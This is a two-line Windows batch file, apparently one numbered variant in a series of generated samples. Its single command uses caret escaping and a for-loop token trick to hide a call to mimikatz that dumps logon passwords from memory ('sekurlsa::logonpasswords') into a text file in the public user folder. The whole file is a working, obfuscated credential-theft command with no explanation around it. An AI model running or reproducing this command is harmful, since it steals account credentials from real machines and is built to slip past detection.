REM run 8352 v4
^for /f "tokens=2 delims=@" %%i in ("dxjj@mimikatz.exe@wrwi") ^do %%^i "privilege::debug" "sekurlsa::logonpasswords" "exit" > C:\Us^ers\Pu^b^li^c\^m.t^xt
